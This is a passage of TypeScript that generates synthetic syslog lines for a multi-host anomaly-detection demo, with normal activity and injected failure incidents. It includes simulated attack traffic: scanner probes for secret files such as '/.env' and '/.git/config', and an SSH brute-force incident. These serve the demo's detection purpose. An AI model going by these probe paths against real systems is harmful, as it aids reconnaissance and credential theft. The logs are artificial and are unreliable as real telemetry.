// Seeded, deterministic sample logs for the demo: a few days of "normal" history for a handful
// of hosts (training), then a shorter "recent" stream of normal lines with real-world incidents
// injected. Messages look like what a syslog collector stores in MongoDB's Message field:
// program tag + text (the timestamp and host name live in their own fields).

import { Rng } from '../seeded-random.js';

export { Rng };


/** One log line as stored: when, which host, and the message text. */
export interface LogRecord {
  timestamp: Date;
  host: string;
  message: string;
}

/** A line of the recent stream; `incident` names the injected incident it belongs to. */
export interface RecentRecord extends LogRecord {
  incident?: string;
}

export interface IncidentInfo {
  id: string;
  host: string;
  title: string;
  /** Number of lines injected for it. */
  lines: number;
}

export interface SampleLogs {
  seed: number;
  hosts: string[];
  /** Normal history, sorted by time. */
  training: LogRecord[];
  /** Later lines, sorted by time: normal ones plus the injected incidents. */
  recent: RecentRecord[];
  incidents: IncidentInfo[];
}

export interface SampleOptions {
  /** Default 42. */
  seed?: number;
  /** Training lines per host. Default 1200. */
  trainingLinesPerHost?: number;
  /** Normal recent lines per host (incident lines come on top). Default 160. */
  recentLinesPerHost?: number;
}

export const DEFAULT_SEED = 42;
export const DEFAULT_TRAINING_LINES_PER_HOST = 1200;
export const DEFAULT_RECENT_LINES_PER_HOST = 160;

/** Start of the training history (fixed so that output does not depend on today's date). */
const TRAINING_START = Date.UTC(2024, 10, 13, 0, 0, 0);
const TRAINING_SPAN_MS = 5 * 24 * 3600_000;
const RECENT_SPAN_MS = 12 * 3600_000;

// ---------------------------------------------------------------------------------------------
// Time formats found inside messages

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const p2 = (n: number): string => String(n).padStart(2, '0');
const p3 = (n: number): string => String(n).padStart(3, '0');
const hms = (t: Date): string => `${p2(t.getUTCHours())}:${p2(t.getUTCMinutes())}:${p2(t.getUTCSeconds())}`;
/** 2024-11-20 10:15:32.123 (Java / Spring Boot). */
const javaTime = (t: Date): string =>
  `${t.getUTCFullYear()}-${p2(t.getUTCMonth() + 1)}-${p2(t.getUTCDate())} ${hms(t)}.${p3(t.getUTCMilliseconds())}`;
/** 20/Nov/2024:10:15:32 +0000 (nginx access log). */
const clfTime = (t: Date): string =>
  `${p2(t.getUTCDate())}/${MONTHS[t.getUTCMonth()]}/${t.getUTCFullYear()}:${hms(t)} +0000`;
/** 2024/11/20 10:15:32 (nginx error log). */
const nginxErrorTime = (t: Date): string =>
  `${t.getUTCFullYear()}/${p2(t.getUTCMonth() + 1)}/${p2(t.getUTCDate())} ${hms(t)}`;
/** Nov 20 10:15:32.123 UTC (Cisco IOS service timestamps). */
const iosTime = (t: Date): string =>
  `${MONTHS[t.getUTCMonth()]} ${p2(t.getUTCDate())} ${hms(t)}.${p3(t.getUTCMilliseconds())} UTC`;
/** 10:15:32 UTC Wed Nov 20 2024 (IOS login banner time). */
const iosLongTime = (t: Date): string =>
  `${hms(t)} UTC ${DAYS[t.getUTCDay()]} ${MONTHS[t.getUTCMonth()]} ${t.getUTCDate()} ${t.getUTCFullYear()}`;

// ---------------------------------------------------------------------------------------------
// Building blocks

/** A line of an episode: offset from the episode start, and its text (may depend on the time). */
type Line = readonly [offsetMs: number, render: string | ((t: Date) => string)];
type Episode = (rng: Rng, host: HostState) => Line[];

interface HostProfile {
  name: string;
  /** Weighted episodes of normal activity. */
  episodes: ReadonlyArray<readonly [Episode, number]>;
  /** Final touch applied to every rendered line in time order (e.g. IOS sequence numbers). */
  decorate?: (text: string, t: Date, index: number) => string;
}

interface HostState {
  /** Boot time, for kernel uptime stamps. */
  bootMs: number;
  /** Next pid handed out to short-lived processes. */
  nextPid: number;
  /** logind session counter. */
  session: number;
  /** Long-running daemons' pids. */
  pids: Record<string, number>;
  /** Per-host counters (postgres log line numbers, nginx connection ids...). */
  counters: Record<string, number>;
  /** MAC header of packets logged by the firewall: this NIC, then the gateway's. */
  ufwMac: string;
}

function newPid(h: HostState, rng: Rng): number {
  h.nextPid += rng.int(1, 40);
  if (h.nextPid > 4_000_000) h.nextPid = 1000;
  return h.nextPid;
}

function counter(h: HostState, name: string, step = 1): number {
  h.counters[name] = (h.counters[name] ?? 0) + step;
  return h.counters[name];
}

const kernelStamp = (h: HostState) => (t: Date): string => {
  const ms = t.getTime() - h.bootMs;
  // Microseconds below the millisecond, derived from the time so that rendering stays deterministic.
  const micros = (ms * 7919) % 1000;
  return `[${String(Math.floor(ms / 1000)).padStart(5, ' ')}.${String((ms % 1000) * 1000 + micros).padStart(6, '0')}]`;
};

const min = 60_000;
const sec = 1000;

/** A fixed list of realistic values, generated once from a constant seed (independent of the demo seed). */
const FIXED = new Rng(20241113);
const b64 = (n: number): string => {
  const chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let s = '';
  for (let i = 0; i < n; i++) s += chars[FIXED.int(0, 63)];
  return s;
};

interface User {
  name: string;
  uid: number;
  key: string;
  keyType: 'ED25519' | 'RSA';
}
const ADMINS: User[] = [
  { name: 'alice', uid: 1001, key: b64(43), keyType: 'ED25519' },
  { name: 'bob', uid: 1002, key: b64(43), keyType: 'ED25519' },
  { name: 'carol', uid: 1003, key: b64(43), keyType: 'RSA' },
  { name: 'dmitri', uid: 1004, key: b64(43), keyType: 'ED25519' },
];
const DEPLOY: User = { name: 'deploy', uid: 1100, key: b64(43), keyType: 'ED25519' };
const ANSIBLE: User = { name: 'ansible', uid: 1101, key: b64(43), keyType: 'ED25519' };
const WORKSTATIONS = Array.from({ length: 14 }, (_, i) => `10.20.${4 + (i % 3)}.${FIXED.int(10, 250)}`);
const CI_RUNNERS = ['10.30.1.21', '10.30.1.22', '10.30.1.23'];

const ephemeralPort = (rng: Rng): number => rng.int(32768, 60999);
const publicIp = (rng: Rng): string => {
  // Documentation and arbitrary public ranges, never private ones.
  const first = rng.pick([45, 61, 77, 89, 103, 109, 118, 141, 176, 185, 193, 212]);
  return `${first}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
};
const macColon = (rng: Rng): string =>
  Array.from({ length: 6 }, () => rng.hex(2)).join(':');
const macDotted = (rng: Rng): string => `${rng.hex(4)}.${rng.hex(4)}.${rng.hex(4)}`;

// ---------------------------------------------------------------------------------------------
// Episodes shared by the Linux hosts

function sshSession(users: readonly User[], sources: readonly string[], loginLine = true): Episode {
  return (rng, h) => {
    const u = rng.pick(users);
    const ip = rng.pick(sources);
    const port = ephemeralPort(rng);
    const pid = newPid(h, rng);
    const s = ++h.session;
    const logind = h.pids.logind;
    const dur = rng.around(8 * min, 1.2);
    const lines: Line[] = [
      [0, `sshd[${pid}]: Accepted publickey for ${u.name} from ${ip} port ${port} ssh2: ${u.keyType} SHA256:${u.key}`],
      [20, `sshd[${pid}]: pam_unix(sshd:session): session opened for user ${u.name}(uid=${u.uid}) by (uid=0)`],
      [35, `systemd-logind[${logind}]: New session ${s} of user ${u.name}.`],
      [dur, `sshd[${pid}]: Received disconnect from ${ip} port ${port}:11: disconnected by user`],
      [dur + 2, `sshd[${pid}]: Disconnected from user ${u.name} ${ip} port ${port}`],
      [dur + 5, `sshd[${pid}]: pam_unix(sshd:session): session closed for user ${u.name}`],
      [dur + 9, `systemd-logind[${logind}]: Session ${s} logged out. Waiting for processes to exit.`],
      [dur + 30, `systemd-logind[${logind}]: Removed session ${s}.`],
    ];
    if (loginLine && rng.chance(0.3)) {
      lines.push([40, `systemd[1]: Started session-${s}.scope - Session ${s} of User ${u.name}.`]);
    }
    return lines;
  };
}

const SUDO_COMMANDS = [
  '/usr/bin/systemctl status nginx',
  '/usr/bin/journalctl -u orders-api --since -1h',
  '/usr/bin/apt-get update',
  '/usr/bin/tail -n 200 /var/log/syslog',
  '/usr/bin/systemctl restart node-exporter',
  '/usr/sbin/ufw status verbose',
  '/usr/bin/du -sh /var/log',
];

const sudo: Episode = (rng, h) => {
  const u = rng.pick(ADMINS);
  const pid = newPid(h, rng);
  return [
    [0, `sudo[${pid}]:    ${u.name} : TTY=pts/${rng.int(0, 3)} ; PWD=/home/${u.name} ; USER=root ; COMMAND=${rng.pick(SUDO_COMMANDS)}`],
    [3, `sudo[${pid}]: pam_unix(sudo:session): session opened for user root(uid=0) by ${u.name}(uid=${u.uid})`],
    [rng.around(2 * sec, 1), `sudo[${pid}]: pam_unix(sudo:session): session closed for user root`],
  ];
};

function cron(user: string, command: string): Episode {
  return (rng, h) => {
    const pid = newPid(h, rng);
    return [
      [0, `CRON[${pid}]: pam_unix(cron:session): session opened for user ${user}(uid=${user === 'root' ? 0 : 113}) by (uid=0)`],
      [4, `CRON[${pid + 1}]: (${user}) CMD (${command})`],
      [rng.around(900, 0.5), `CRON[${pid}]: pam_unix(cron:session): session closed for user ${user}`],
    ];
  };
}

const sysstatCron = cron('root', 'command -v debian-sa1 > /dev/null && debian-sa1 1 1');

const SYSTEMD_JOBS = [
  ['sysstat-collect.service', 'system activity accounting tool'],
  ['apt-daily.service', 'Daily apt download activities'],
  ['man-db.service', 'Daily man-db regeneration'],
  ['fstrim.service', 'Discard unused blocks on filesystems from /etc/fstab'],
  ['systemd-tmpfiles-clean.service', 'Cleanup of Temporary Directories'],
  ['phpsessionclean.service', 'Clean php session files'],
] as const;

function systemdJob(jobs: ReadonlyArray<readonly [string, string]> = SYSTEMD_JOBS.slice(0, 5)): Episode {
  return (rng) => {
    const [unit, description] = rng.pick(jobs);
    const took = rng.around(1500, 0.8);
    const lines: Line[] = [
      [0, `systemd[1]: Starting ${unit} - ${description}...`],
      [took, `systemd[1]: ${unit}: Deactivated successfully.`],
      [took + 1, `systemd[1]: Finished ${unit} - ${description}.`],
    ];
    if (rng.chance(0.4)) lines.push([took + 2, `systemd[1]: ${unit}: Consumed ${rng.around(0.4, 0.8).toFixed(3)}s CPU time.`]);
    return lines;
  };
}

const UFW_PORTS = [23, 445, 3389, 5900, 8080, 1433, 6379, 8443, 2323, 81];

function ufwBlock(iface: string, dst: string): Episode {
  return (rng, h) => {
    const stamp = kernelStamp(h);
    const proto = rng.chance(0.9) ? 'TCP' : 'UDP';
    const tail =
      proto === 'TCP'
        ? `PROTO=TCP SPT=${ephemeralPort(rng)} DPT=${rng.pick(UFW_PORTS)} WINDOW=${rng.pick([1024, 29200, 65535])} RES=0x00 SYN URGP=0`
        : `PROTO=UDP SPT=${ephemeralPort(rng)} DPT=${rng.pick([53, 123, 161, 1900, 5060])} LEN=${rng.int(20, 120)}`;
    return [
      [
        0,
        (t) =>
          `kernel: ${stamp(t)} [UFW BLOCK] IN=${iface} OUT= MAC=${h.ufwMac}:08:00 SRC=${publicIp(rng)} DST=${dst} LEN=${rng.pick([40, 44, 52, 60])} TOS=0x00 PREC=0x00 TTL=${rng.int(40, 250)} ID=${rng.int(1, 65535)} ${tail}`,
      ],
    ];
  };
}

// ---------------------------------------------------------------------------------------------
// bastion-01: admin jump host

const bastion: HostProfile = {
  name: 'bastion-01',
  episodes: [
    [sshSession(ADMINS, WORKSTATIONS), 26],
    [sshSession([ANSIBLE], ['10.30.1.10']), 10],
    [sudo, 14],
    [sysstatCron, 14],
    [ufwBlock('ens18', '10.20.0.5'), 18],
    [systemdJob(), 5],
  ],
};

// ---------------------------------------------------------------------------------------------
// web-01: nginx in front of the shop

const WEB_PAGES: ReadonlyArray<readonly [string, number]> = [
  ['/', 10],
  ['/products', 8],
  ['/products/{id}', 14],
  ['/api/v1/products?page={n}', 8],
  ['/api/v1/products/{id}', 12],
  ['/api/v1/cart', 6],
  ['/static/js/app.{hash}.js', 6],
  ['/static/css/main.{hash}.css', 5],
  ['/static/img/products/{id}.webp', 10],
  ['/favicon.ico', 3],
  ['/robots.txt', 1],
];
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
];
const BUNDLE_HASH = 'f3a91c07';

const nginxAccess: Episode = (rng) => {
  const ip = publicIp(rng);
  const ua = rng.pick(USER_AGENTS);
  const path = rng
    .weighted(WEB_PAGES)
    .replace('{id}', String(rng.int(1000, 99999)))
    .replace('{n}', String(rng.int(1, 40)))
    .replace('{hash}', BUNDLE_HASH);
  const isApi = path.startsWith('/api/');
  const method = path === '/api/v1/cart' && rng.chance(0.5) ? 'POST' : 'GET';
  const status = rng.weighted([
    [200, 80],
    [304, path.startsWith('/static') ? 15 : 2],
    [301, path === '/products' ? 4 : 0.5],
    [404, path.startsWith('/static/img') ? 3 : 0.5],
    [499, 0.5],
  ] as const);
  const bytes = status === 304 ? 0 : Math.round(rng.around(isApi ? 2400 : path.startsWith('/static') ? 48000 : 18000));
  const referer = path === '/' || rng.chance(0.3) ? '-' : 'https://shop.example.com/products';
  return [
    [0, (t) => `nginx: ${ip} - - [${clfTime(t)}] "${method} ${path} HTTP/${rng.pick(['1.1', '2.0'])}" ${status} ${bytes} "${referer}" "${ua}"`],
  ];
};

const healthCheck: Episode = (rng) => [
  [0, (t) => `nginx: 10.0.0.${rng.pick([2, 3])} - - [${clfTime(t)}] "GET /healthz HTTP/1.1" 200 2 "-" "ELB-HealthChecker/2.0"`],
];

const PROBE_PATHS = ['/wp-login.php', '/.env', '/phpmyadmin/index.php', '/.git/config', '/xmlrpc.php', '/admin/config.php'];
const scannerProbe: Episode = (rng, h) => {
  const ip = publicIp(rng);
  const path = rng.pick(PROBE_PATHS);
  const worker = h.pids.nginxWorker;
  const conn = counter(h, 'nginxConn', rng.int(5, 400));
  const lines: Line[] = [
    [0, (t) => `nginx: ${ip} - - [${clfTime(t)}] "GET ${path} HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"`],
  ];
  if (!path.startsWith('/.')) {
    lines.push([
      1,
      (t) =>
        `nginx: ${nginxErrorTime(t)} [error] ${worker}#${worker}: *${conn} open() "/var/www/shop${path}" failed (2: No such file or directory), client: ${ip}, server: shop.example.com, request: "GET ${path} HTTP/1.1", host: "shop.example.com"`,
    ]);
  }
  return lines;
};

const upstreamBuffered: Episode = (rng, h) => {
  const worker = h.pids.nginxWorker;
  const conn = counter(h, 'nginxConn', rng.int(5, 400));
  const ip = publicIp(rng);
  const id = rng.int(1000, 99999);
  return [
    [
      0,
      (t) =>
        `nginx: ${nginxErrorTime(t)} [warn] ${worker}#${worker}: *${conn} an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/${rng.int(0, 9)}/${p2(rng.int(0, 99))}/00000${rng.int(10000, 99999)} while reading upstream, client: ${ip}, server: shop.example.com, request: "GET /api/v1/products/${id}/images HTTP/2.0", upstream: "http://10.0.1.15:8080/api/v1/products/${id}/images", host: "shop.example.com"`,
    ],
  ];
};

const logrotateNginx: Episode = (rng) => {
  const took = rng.around(800, 0.5);
  return [
    [0, 'systemd[1]: Starting logrotate.service - Rotate log files...'],
    [200, 'systemd[1]: Reloading nginx.service - A high performance web server and a reverse proxy server...'],
    [260, 'systemd[1]: Reloaded nginx.service - A high performance web server and a reverse proxy server.'],
    [took, 'systemd[1]: logrotate.service: Deactivated successfully.'],
    [took + 1, 'systemd[1]: Finished logrotate.service - Rotate log files.'],
  ];
};

const web: HostProfile = {
  name: 'web-01',
  episodes: [
    [nginxAccess, 60],
    [healthCheck, 16],
    [scannerProbe, 5],
    [upstreamBuffered, 2.5],
    [cron('root', "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew"), 2.5],
    [sysstatCron, 3],
    [ufwBlock('eth0', '10.0.0.11'), 6],
    [sshSession([DEPLOY], CI_RUNNERS, false), 2],
    [logrotateNginx, 1],
    [systemdJob(), 1.5],
  ],
};

// ---------------------------------------------------------------------------------------------
// app-01: a Spring Boot service (orders-api) logging INFO lines to syslog

const spring = (h: HostState, level: 'INFO' | 'WARN' | 'ERROR', thread: string, logger: string, text: string) =>
  (t: Date): string =>
    `orders-api[${h.pids.java}]: ${javaTime(t)} ${level.padStart(5, ' ')} ${h.pids.java} --- [${thread.padStart(15, ' ')}] ${logger.padEnd(40, ' ')} : ${text}`;
const httpThread = (rng: Rng): string => `nio-8080-exec-${rng.int(1, 10)}`;
const PAYMENT_PROVIDERS = ['adyen', 'stripe', 'paypal'];

const orderFlow: Episode = (rng, h) => {
  const thread = httpThread(rng);
  const order = counter(h, 'order', rng.int(1, 3)) + 480_000;
  const customer = rng.int(10_000, 99_999);
  const items = rng.int(1, 6);
  const total = rng.around(60, 0.8).toFixed(2);
  const took = Math.round(rng.around(45, 0.5));
  const payMs = Math.round(rng.around(320, 0.4));
  return [
    [0, spring(h, 'INFO', thread, 'c.e.orders.web.OrderController', `Received order request customer=${customer} items=${items}`)],
    [took, spring(h, 'INFO', thread, 'c.e.orders.service.OrderService', `Order ${order} created for customer ${customer}: ${items} items, total=${total} EUR (${took} ms)`)],
    [took + payMs, spring(h, 'INFO', thread, 'c.e.orders.payment.PaymentClient', `Payment authorized for order ${order} via ${rng.pick(PAYMENT_PROVIDERS)} in ${payMs} ms`)],
  ];
};

const productView: Episode = (rng, h) => {
  const id = rng.int(1000, 99999);
  const thread = httpThread(rng);
  return [
    [
      0,
      rng.chance(0.8)
        ? spring(h, 'INFO', thread, 'c.e.orders.web.ProductController', `Product ${id} served from cache`)
        : spring(h, 'INFO', thread, 'c.e.orders.web.ProductController', `Product ${id} loaded from database in ${Math.round(rng.around(14, 0.5))} ms`),
    ],
  ];
};

const hikariStats: Episode = (rng, h) => {
  const active = rng.int(0, 6);
  return [[0, spring(h, 'INFO', 'HikariPool-1 housekeeper', 'com.zaxxer.hikari.pool.HikariPool', `HikariPool-1 - Pool stats (total=10, active=${active}, idle=${10 - active}, waiting=0)`)]];
};

const stockSync: Episode = (rng, h) => {
  const took = Math.round(rng.around(1800, 0.3));
  return [
    [0, spring(h, 'INFO', 'scheduling-1', 'c.e.orders.stock.StockSyncJob', 'Stock sync started')],
    [took, spring(h, 'INFO', 'scheduling-1', 'c.e.orders.stock.StockSyncJob', `Stock sync finished: ${rng.int(20, 400)} products updated, ${rng.int(3500, 3900)} unchanged in ${took} ms`)],
  ];
};

const slowPayment: Episode = (rng, h) => [
  [
    0,
    spring(h, 'WARN', httpThread(rng), 'c.e.orders.payment.PaymentClient', `Payment provider ${rng.pick(PAYMENT_PROVIDERS)} slow: ${Math.round(rng.around(2600, 0.3))} ms for order ${480_000 + (h.counters.order ?? 0)}`),
  ],
];

const app: HostProfile = {
  name: 'app-01',
  episodes: [
    [orderFlow, 26],
    [productView, 40],
    [hikariStats, 10],
    [stockSync, 4],
    [slowPayment, 2.5],
    [sysstatCron, 5],
    [sshSession([DEPLOY], CI_RUNNERS, false), 2],
    [systemdJob(), 2],
  ],
};

// ---------------------------------------------------------------------------------------------
// db-01: PostgreSQL

const pg = (h: HostState, text: string): string => {
  const n = counter(h, 'pgLine');
  return `postgres[${h.pids.postgres}]: [${n}-1] ${text}`;
};
const pgBackend = (h: HostState, pid: number, text: string): string => `postgres[${pid}]: [${counter(h, 'pgLine')}-1] ${text}`;
const APP_SERVERS = ['10.0.1.15', '10.0.1.16'];
const TABLES = ['orders', 'order_items', 'products', 'customers', 'stock_levels', 'payments'];

const pgConnection: Episode = (rng, h) => {
  const pid = newPid(h, rng);
  const ip = rng.pick(APP_SERVERS);
  const port = ephemeralPort(rng);
  const dur = rng.around(25 * min, 1);
  const s = Math.floor(dur / 1000);
  const sessionTime = `${Math.floor(s / 3600)}:${p2(Math.floor(s / 60) % 60)}:${p2(s % 60)}.${p3(Math.floor(dur % 1000))}`;
  return [
    [0, pgBackend(h, pid, `LOG:  connection received: host=${ip} port=${port}`)],
    [4, pgBackend(h, pid, 'LOG:  connection authorized: user=orders database=shop application_name=PostgreSQL JDBC Driver')],
    [dur, pgBackend(h, pid, `LOG:  disconnection: session time: ${sessionTime} user=orders database=shop host=${ip} port=${port}`)],
  ];
};

const pgCheckpoint: Episode = (rng, h) => {
  const buffers = Math.round(rng.around(900, 0.9));
  const write = rng.around(40, 0.5);
  const sync = rng.around(0.02, 0.8);
  const files = rng.int(10, 80);
  const distance = Math.round(rng.around(9000, 0.9));
  return [
    [0, pg(h, 'LOG:  checkpoint starting: time')],
    [
      write * 1000,
      pg(
        h,
        `LOG:  checkpoint complete: wrote ${buffers} buffers (${(buffers / 163.84).toFixed(1)}%); 0 WAL file(s) added, 0 removed, ${rng.int(0, 3)} recycled; write=${write.toFixed(3)} s, sync=${sync.toFixed(3)} s, total=${(write + sync + 0.005).toFixed(3)} s; sync files=${files}, longest=${(sync / 2).toFixed(3)} s, average=${(sync / files).toFixed(3)} s; distance=${distance} kB, estimate=${distance + rng.int(0, 500)} kB`,
      ),
    ],
  ];
};

const pgAutovacuum: Episode = (rng, h) => {
  const pid = newPid(h, rng);
  const table = rng.pick(TABLES);
  return [
    [
      0,
      rng.chance(0.5)
        ? pgBackend(h, pid, `LOG:  automatic vacuum of table "shop.public.${table}": index scans: ${rng.int(0, 1)}`)
        : pgBackend(h, pid, `LOG:  automatic analyze of table "shop.public.${table}" system usage: CPU: user: ${rng.around(0.05).toFixed(2)} s, system: 0.00 s, elapsed: ${rng.around(0.2).toFixed(2)} s`),
    ],
  ];
};

const pgSlowQuery: Episode = (rng, h) => {
  const pid = newPid(h, rng);
  const q = rng.pick([
    `SELECT o.id, o.total, o.created_at FROM orders o WHERE o.customer_id = ${rng.int(10_000, 99_999)} ORDER BY o.created_at DESC LIMIT 50`,
    `UPDATE stock_levels SET quantity = quantity - ${rng.int(1, 5)} WHERE product_id = ${rng.int(1000, 99999)}`,
    `SELECT p.id, p.name, p.price FROM products p JOIN stock_levels s ON s.product_id = p.id WHERE s.quantity > 0 AND p.category_id = ${rng.int(1, 60)}`,
  ]);
  return [[0, pgBackend(h, pid, `LOG:  duration: ${rng.around(1400, 0.3).toFixed(3)} ms  statement: ${q}`)]];
};

const db: HostProfile = {
  name: 'db-01',
  episodes: [
    [pgConnection, 22],
    [pgCheckpoint, 10],
    [pgAutovacuum, 12],
    [pgSlowQuery, 6],
    [cron('postgres', '/usr/local/bin/pg_backup.sh >> /var/log/postgresql/pg_backup.log 2>&1'), 3],
    [sysstatCron, 8],
    [ufwBlock('ens19', '10.0.2.20'), 4],
    [sshSession(ADMINS, ['10.20.0.5']), 3],
    [systemdJob(), 3],
  ],
};

// ---------------------------------------------------------------------------------------------
// sw-core-01: a Cisco IOS access/core switch (sequence numbers and timestamps in the message)

const gi = (port: number): string => `GigabitEthernet1/0/${port}`;

const portFlap: Episode = (rng) => {
  const port = rng.int(1, 44);
  const down = rng.around(6 * min, 1.2);
  const mac = macDotted(rng);
  const session = `0A0000FE${rng.hex(16).toUpperCase()}`;
  return [
    [0, `%LINK-3-UPDOWN: Interface ${gi(port)}, changed state to down`],
    [1000, `%LINEPROTO-5-UPDOWN: Line protocol on Interface ${gi(port)}, changed state to down`],
    [down, `%LINK-3-UPDOWN: Interface ${gi(port)}, changed state to up`],
    [down + 1000, `%LINEPROTO-5-UPDOWN: Line protocol on Interface ${gi(port)}, changed state to up`],
    [down + 1500, `%AUTHMGR-5-START: Starting 'dot1x' for client (${mac}) on Interface Gi1/0/${port} AuditSessionID ${session}`],
    [down + 2100, `%DOT1X-5-SUCCESS: Authentication successful for client (${mac}) on Interface Gi1/0/${port} AuditSessionID ${session}`],
    [down + 2200, `%AUTHMGR-5-SUCCESS: Authorization succeeded for client (${mac}) on Interface Gi1/0/${port} AuditSessionID ${session}`],
  ];
};

const reauth: Episode = (rng) => {
  const port = rng.int(1, 44);
  const mac = macDotted(rng);
  const session = `0A0000FE${rng.hex(16).toUpperCase()}`;
  return [
    [0, `%DOT1X-5-SUCCESS: Authentication successful for client (${mac}) on Interface Gi1/0/${port} AuditSessionID ${session}`],
    [100, `%AUTHMGR-5-SUCCESS: Authorization succeeded for client (${mac}) on Interface Gi1/0/${port} AuditSessionID ${session}`],
  ];
};

const CIPHER = "using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256'";
const adminLogin: Episode = (rng) => {
  const ip = rng.pick(['10.20.0.5', '10.30.1.10']);
  const user = ip === '10.30.1.10' ? 'ansible' : 'netops';
  const tty = rng.int(0, 4);
  const dur = rng.around(3 * min, 1);
  const lines: Line[] = [
    [0, `%SSH-5-SSH2_SESSION: SSH2 Session request from ${ip} (tty = ${tty}) ${CIPHER} Succeeded`],
    [400, `%SSH-5-SSH2_USERAUTH: User '${user}' authentication for SSH2 Session from ${ip} (tty = ${tty}) ${CIPHER} Succeeded`],
    [450, (t) => `%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: ${user}] [Source: ${ip}] [localport: 22] at ${iosLongTime(t)}`],
    [dur, `%SSH-5-SSH2_CLOSE: SSH2 Session from ${ip} (tty = ${tty}) for user '${user}' ${CIPHER} closed`],
  ];
  if (rng.chance(0.5)) lines.push([dur - 2000, `%SYS-5-CONFIG_I: Configured from console by ${user} on vty${tty} (${ip})`]);
  return lines;
};

const cdpMismatch: Episode = (rng) => [
  [0, `%CDP-4-NATIVE_VLAN_MISMATCH: Native VLAN mismatch discovered on ${gi(48)} (1), with ap-floor2-0${rng.int(1, 4)} GigabitEthernet0 (20).`],
];

const bgpMaintenance: Episode = (rng) => {
  const nbr = '10.255.0.2';
  const back = rng.around(40 * sec, 0.3);
  return [
    [0, `%BGP-5-ADJCHANGE: neighbor ${nbr} Down User reset`],
    [5, `%BGP_SESSION-5-ADJCHANGE: neighbor ${nbr} IPv4 Unicast topology base removed from session  User reset`],
    [back, `%BGP-5-ADJCHANGE: neighbor ${nbr} Up`],
  ];
};

const sw: HostProfile = {
  name: 'sw-core-01',
  episodes: [
    [portFlap, 18],
    [reauth, 22],
    [adminLogin, 5],
    [cdpMismatch, 14],
    [bgpMaintenance, 1.5],
  ],
  decorate: (text, t, i) => `${100_000 + i}: ${iosTime(t)}: ${text}`,
};

export const HOST_PROFILES: readonly HostProfile[] = [bastion, web, app, db, sw];
/** The demo hosts, in a fixed order. */
export const DEMO_HOSTS: readonly string[] = HOST_PROFILES.map((p) => p.name);

// ---------------------------------------------------------------------------------------------
// Injected incidents (real-world failure shapes)

interface IncidentDef {
  id: string;
  host: string;
  title: string;
  lines: (rng: Rng, h: HostState) => Line[];
}

const INCIDENTS: readonly IncidentDef[] = [
  {
    id: 'oom-killer',
    host: 'app-01',
    title: 'kernel OOM killer kills the Java service',
    lines: (rng, h) => {
      const stamp = kernelStamp(h);
      const java = h.pids.java;
      return [
        [0, (t) => `kernel: ${stamp(t)} java invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0`],
        [2, (t) => `kernel: ${stamp(t)} Out of memory: Killed process ${java} (java) total-vm:${rng.int(8_000_000, 9_000_000)}kB, anon-rss:${rng.int(6_000_000, 7_000_000)}kB, file-rss:0kB, shmem-rss:0kB, UID:1001 pgtables:${rng.int(13_000, 15_000)}kB oom_score_adj:0`],
        [60, 'systemd[1]: orders-api.service: A process of this unit has been killed by the OOM killer.'],
        [70, 'systemd[1]: orders-api.service: Main process exited, code=killed, status=9/KILL'],
        [75, "systemd[1]: orders-api.service: Failed with result 'oom-kill'."],
      ];
    },
  },
  {
    id: 'disk-full',
    host: 'db-01',
    title: 'PostgreSQL runs out of disk space',
    lines: (rng, h) => [
      [0, pg(h, `PANIC:  could not write to file "pg_wal/xlogtemp.${h.pids.postgres + 17}": No space left on device`)],
      [30, pg(h, `LOG:  WAL writer process (PID ${h.pids.postgres + 5}) was terminated by signal 6: Aborted`)],
      [35, pg(h, 'LOG:  terminating any other active server processes')],
      [900, pg(h, 'LOG:  all server processes terminated; reinitializing')],
    ],
  },
  {
    id: 'segfault',
    host: 'web-01',
    title: 'nginx worker segfault',
    lines: (rng, h) => {
      const stamp = kernelStamp(h);
      const worker = h.pids.nginxWorker;
      return [
        [0, (t) => `kernel: ${stamp(t)} nginx[${worker}]: segfault at 0 ip 000055d0c3a8b2f4 sp 00007ffc5e1c2a40 error 4 in nginx[55d0c3a00000+f3000] likely on CPU 1 (core 1, socket 0)`],
        [1, (t) => `kernel: ${stamp(t)} Code: 48 8b 47 08 48 85 c0 74 0b 48 8b 40 10 c3 0f 1f 44 00 00 31 c0 c3 66 90 <48> 8b 07 48 89 c2 48 c1 ea 20`],
        [40, (t) => `nginx: ${nginxErrorTime(t)} [alert] ${h.pids.nginxMaster}#${h.pids.nginxMaster}: worker process ${worker} exited on signal 11 (core dumped)`],
      ];
    },
  },
  {
    id: 'ssh-bruteforce',
    host: 'bastion-01',
    title: 'burst of SSH authentication failures from one address',
    lines: (rng, h) => {
      const ip = '203.0.113.45';
      const out: Line[] = [];
      let at = 0;
      for (let i = 0; i < 5; i++) {
        const pid = newPid(h, rng);
        const port = ephemeralPort(rng);
        const user = rng.pick(['root', 'root', 'admin', 'ubuntu', 'oracle']);
        if (user !== 'root') {
